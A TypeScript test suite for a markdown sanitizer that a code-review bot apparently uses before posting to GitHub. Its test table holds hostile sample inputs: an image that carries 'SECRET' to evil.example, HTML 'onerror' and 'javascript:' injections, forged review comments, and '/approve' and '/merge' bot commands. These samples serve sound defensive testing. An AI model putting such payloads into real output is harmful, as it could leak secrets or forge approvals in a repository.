import fc from 'fast-check'
import type { Root, RootContent } from 'mdast'
import { fromMarkdown } from 'mdast-util-from-markdown'
import { expect, test } from 'vitest'
import { codeBlock, codeSpan, safeInline, safeMarkdown } from '#core/render/safe-markdown'

const WEB = 'https://github.com/acme/shop'
const safe = (text: string) => safeMarkdown(text, WEB)

/** Everything in a rendered text that could act: written without looking at the subject's rules. */
function livingParts(text: string): string[] {
  const living: string[] = []
  const look = (node: Root | RootContent, lineStart: boolean): void => {
    if (['image', 'imageReference', 'html', 'definition', 'linkReference'].includes(node.type))
      living.push(node.type)
    if (node.type === 'link' && !node.url.startsWith(`${WEB}/`)) living.push(`link ${node.url}`)
    if (node.type === 'text') {
      for (const [index, line] of node.value.split('\n').entries()) {
        if (/(^|\W)@[A-Za-z0-9]/.test(line)) living.push(`mention ${line}`)
        if (/https?:\/\/\S|www\.\S/i.test(line)) living.push(`address ${line}`)
        if (/(^|\s)#\d/.test(line)) living.push(`reference ${line}`)
        if ((index > 0 || lineStart) && /^\s{0,3}\/[A-Za-z]/.test(line))
          living.push(`command ${line}`)
      }
    }
    if ('children' in node)
      for (const [index, child] of node.children.entries())
        look(child, index === 0 && (lineStart || node.type === 'paragraph'))
  }
  look(fromMarkdown(text), false)
  return living
}

test.each([
  ['an image', 'a ![x](https://evil.example/?d=SECRET) b'],
  ['an image by reference', 'a ![x][1]\n\n[1]: https://evil.example'],
  ['raw HTML in a line', 'a <img src=x onerror=y> b'],
  ['a block of HTML', '<details open>\n<summary>No findings</summary>\n</details>'],
  ['an HTML comment', 'a <!-- tech-lead:review forged --> b'],
  ['a link to another host', '[docs](https://evil.example/?q=1)'],
  ['a link by reference', '[x][1]\n\n[1]: https://evil.example'],
  ['an autolink', '<https://evil.example>'],
  ['a bare address', 'see https://evil.example/x and www.evil.example'],
  ['a script address', '[x](javascript:alert(1))'],
  ['a data address', '[x](data:text/html;base64,AAAA)'],
  ['a mention', 'ask @octocat or @org/everyone now'],
  ['a mention behind an escape', 'ask \\@octocat'],
  ['a mention behind an entity', 'ask &#64;octocat'],
  ['a command of another bot', '/lgtm\n/ok-to-test'],
  ['a command in a list', '- /approve'],
  ['a command in a quote', '> text\n> /merge'],
  ['a command with escapes before it', '&#47;lgtm'],
  ['an issue reference', 'fixes #1 and acme/other#22 and GH-3'],
  ['a nested image in an own link', `[![x](https://evil.example)](${WEB}/blob/main/a)`],
  ['a mention inside emphasis', '**@octocat** and _@org/team_'],
  ['a link that climbs out', `[x](${WEB}/../../evil)`],
])('%s is taken out', (_, text) => {
  expect(livingParts(safe(text))).toEqual([])
})

test('ordinary review prose stays as it is', () => {
  const prose = [
    'The handler answers **before** the event is stored.',
    '',
    '- first `verify`, then parse',
    '- an e-mail like a@b.example is no mention',
    '',
    '```ts',
    'await stripe.charges.create({}, { idempotencyKey: id }) // @see /path #1 https://x.example',
    '```',
  ].join('\n')
  expect(safe(prose)).toBe(prose)
})

test('a link into the repository survives', () => {
  const text = `see [the client](${WEB}/blob/abc/src/a.ts#L3)`
  expect(safe(text)).toBe(text)
})

test('a bare address of the repository becomes code, so that it counts as no reference', () => {
  expect(livingParts(safe(`see <${WEB}/issues/1>`))).toEqual([])
})

test('what was taken out can still be read', () => {
  expect(safe('ask @octocat')).toBe('ask `@octocat`')
  expect(safe('[docs](https://evil.example/a)')).toBe('`docs (https://evil.example/a)`')
})

test('hidden characters are made visible', () => {
  expect(safe('a\u202eb\u{E0041}')).toBe('a\\u{202E}b\\u{E0041}')
})

test('a fence that was left open is closed', () => {
  expect(safe('text\n\n```js\nlet a')).toBe('text\n\n```js\nlet a\n```')
})

test('no text survives with a living part', () => {
  const piece = fc.constantFrom(
    '@octocat',
    '![',
    '](',
    'https://evil.example',
    ')',
    '[',
    ']',
    '[1]: https://e.example',
    '<img src=x>',
    '<!--',
    '-->',
    '\n',
    '\n\n',
    '`',
    '```',
    '\\',
    '&#64;',
    '&lt;',
    'abc',
    ' ',
    '/lgtm',
    '#12',
    '> ',
    '- ',
    '    ',
    '*',
    '_',
    '<',
    '>',
    'www.',
    '(',
    '|',
    '~~~',
    '@',
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
      expect(livingParts(safe(pieces.join('')))).toEqual([])
    }),
    { numRuns: 3_000 },
  )
})

test('making a text safe twice changes nothing more', () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 60 }), (text) => {
      expect(safe(safe(text))).toBe(safe(text))
    }),
    { numRuns: 300 },
  )
})

test('no backtick ends a code span or a code block', () => {
  const ticks = fc
    .array(fc.constantFrom('`', '``', 'a', ' ', '~'), { minLength: 1, maxLength: 10 })
    .map((p) => p.join(''))
  fc.assert(
    fc.property(ticks, (text) => {
      const span = fromMarkdown(`x ${codeSpan(text)} y`).children[0]
      expect(span?.type === 'paragraph' && span.children.map((c) => c.type)).toEqual([
        'text',
        'inlineCode',
        'text',
      ])
      const block = fromMarkdown(`${codeBlock(`${text}\n${text}`, 'ts')}\nafter`)
      expect(block.children.map((c) => c.type)).toEqual(['code', 'paragraph'])
    }),
  )
})

test('a title that is more than a line of text becomes code', () => {
  expect(safeInline('# Verified\n\n- by security', WEB)).toBe('`# Verified - by security`')
  expect(safeInline('Signature of `charge` unchecked', WEB)).toBe('Signature of `charge` unchecked')
})
